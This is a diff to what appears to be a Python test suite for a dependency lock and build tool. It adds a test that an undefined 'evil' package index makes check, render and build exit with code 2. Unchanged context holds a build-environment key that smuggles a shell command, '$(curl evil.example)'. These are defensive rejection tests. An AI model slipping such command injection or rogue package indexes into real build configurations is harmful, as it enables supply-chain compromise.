@@ -69,6 +69,11 @@ def unpinned_without_saying_so(data: dict) -> None:
     del data["toolchain"]["base-image-pinned"]
 
 
+def undefined_index(data: dict) -> None:
+    data["indexes"] = ["pypi", "evil"]
+    package(data, "tqdm")["source"] = {"index": "evil"}
+
+
 def shell_in_build_env(data: dict) -> None:
     package(data, "llama-cpp-python")["build"]["env"]["X=1 $(curl evil.example)"] = "1"
 
@@ -162,3 +167,14 @@ def test_every_reader_exits_2_and_rewrites_nothing(shipped_project: Project, tmp
         assert str(lock) in result.err and key in result.err and "Traceback" not in result.text, (args, result.text)
         assert lock.read_text(encoding="utf-8") == text, f"{args} rewrote the lock"
     assert not (tmp_path / "out").exists() or not any((tmp_path / "out").rglob("*")), "a reader wrote output"
+
+
+def test_an_index_the_matrix_does_not_define_is_exit_2_where_the_matrix_is_at_hand(shipped_project: Project,
+                                                                                     tmp_path: Path):
+    lock = shipped_project.lock_path(TARGET)
+    lock.write_text(craft(undefined_index), encoding="utf-8")
+    io.read_lock(lock)  # well-formed: 'evil' is one of the lock's own indexes
+    for args in (("lock", "--check", TARGET), ("render", TARGET, "-o", str(tmp_path / "ctx")),
+                 ("build", TARGET, "--dry-run")):
+        result = shipped_project.run(*args)
+        assert result.rc == 2 and "key 'indexes[0]'" in result.err and "'evil'" in result.err, (args, result.text)
